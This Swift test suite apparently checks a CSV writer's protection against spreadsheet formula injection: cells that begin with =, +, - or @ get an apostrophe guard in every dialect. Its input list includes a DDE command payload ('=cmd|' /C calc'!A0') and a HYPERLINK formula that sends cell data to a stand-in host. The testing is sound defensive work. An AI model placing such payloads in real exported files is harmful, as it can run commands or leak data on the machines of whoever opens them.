import Documents
import TestSupport
import Testing

/// No cell begins with what a spreadsheet runs, whatever the reader splits at.
@Suite struct CSVFormulaTests {
    static let formulas = [
        "=1+2", "+84912345678", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://a.example/?\"&A1,\"b\")",
        "\t=1", "\r=1", "\n=1", "\r\n=1", "\t", "\r", "\n", "\0=1", "\u{B}=1", "\u{85}=1", "\u{2028}=1",
        "＝1", "＋1", "－1", "＠A1", " =1", "\u{A0}=1", "\u{3000}＝1", "\u{200B}=1", "\u{FEFF}=1", "\u{202E}=1", "\"=1\"",
        "''=1", ";=1", ";;=1", "; \" =1", ";\"\"\"=1", "\t;\n=1",
    ]
    static let beginnings = ["", "a", "a;", "a; ", "a;\"", "a;\"\"", "a\t", "a\t ", "a\n", "a\r\n", "a;\n\"", "a,"]
    static let ends = ["", ";", "\t", "\n", "\r\n", ";\"", "; ", "\t\"\""]

    static let dialects = [",", ";", "\t"].flatMap { delimiter in
        [false, true].map { PythonCSV.Dialect(delimiter: delimiter, skipsSpaces: $0) }
    }
    static let dialectsWithoutQuotes = [";", "\t"].map { PythonCSV.Dialect(delimiter: $0, honoursQuotes: false) }

    @Test(arguments: dialects + dialectsWithoutQuotes)
    func `no cell begins with a formula`(in dialect: PythonCSV.Dialect) throws {
        let texts = Self.beginnings.flatMap { beginning in
            Self.formulas.flatMap { formula in
                Self.ends.map { beginning + formula + $0 }
            }
        }
        let rows =
            [["một", "hai", "ba"]]
            + texts.flatMap { [[$0, "a", $0], ["a", $0, "b"]] }

        #expect(try firstFormula(in: PythonCSV.rows(of: file(rows), in: dialect)) == nil)
    }

    @Test func `any text comes back with nothing but apostrophes added, and in no dialect as a formula`() throws {
        var random = SeededGenerator()
        let seed = random.seed
        let signs = Array("=+-@;,\"' \t\r\n\0a1ếĐ＝－\u{A0}\u{2028}").map(String.init) + ["\r\n", "\u{200B}", "–", "👋"]
        let rows = (0..<5000).map { _ in
            (0..<3).map { _ in
                let length = Int.random(in: 0...8, using: &random)
                return (0..<length).compactMap { _ in signs.randomElement(using: &random) }.joined()
            }
        }
        let file = file(rows)

        let readBack = try PythonCSV.rows(of: file)
        #expect(withoutApostrophes(readBack) == withoutApostrophes(rows), "SEED=\(seed)")
        for dialect in Self.dialects + Self.dialectsWithoutQuotes {
            #expect(try firstFormula(in: PythonCSV.rows(of: file, in: dialect)) == nil, "SEED=\(seed) \(dialect)")
        }
    }

    @Test(arguments: [
        ("=1", "'=1"), (" =1", " '=1"), ("a=1", "a=1"), ("a;b", "a;b"), ("a;=1", "a;'=1"), ("a; =1", "a; '=1"),
        ("a;b=1", "a;b=1"), ("a,=1", "a,=1"), ("\n\n- a\n- b", "'\n\n'- a\n'- b"), ("a\r\nb", "a\r\nb"), ("a;", "a;'"),
        ("a\n", "a\n'"), ("0912-345-678", "0912-345-678"), ("+84 912", "'+84 912"), ("Đoàn - 12", "Đoàn - 12"),
        ("a\u{85}=1", "a\u{85}'=1"), ("a\u{2028}-1", "a\u{2028}'-1"), ("–1", "–1"), ("a – b", "a – b"),
    ])
    func `a guard stands before the sign and nowhere else`(_ text: String, _ guarded: String) throws {
        #expect(try bytes(PythonCSV.rows(of: file([[text]]))) == bytes([[guarded]]))
    }

    /// The first cell that begins with a control character that matters, or, past spaces and quotes, with a sign.
    private func firstFormula(in rows: [[String]]) -> String? {
        rows.lazy.joined().first { cell in
            if let first = cell.unicodeScalars.first, "\t\r\n\0".unicodeScalars.contains(first) {
                return true
            }
            let shown = cell.unicodeScalars.drop {
                $0 == "\"" || $0.properties.isWhitespace || $0.properties.isDefaultIgnorableCodePoint
            }
            return shown.first.map("=+-@＝＋－＠".unicodeScalars.contains) ?? false
        }
    }

    private func withoutApostrophes(_ rows: [[String]]) -> [[[UInt8]]] {
        rows.map { $0.map { $0.utf8.filter { $0 != UInt8(ascii: "'") } } }
    }
}
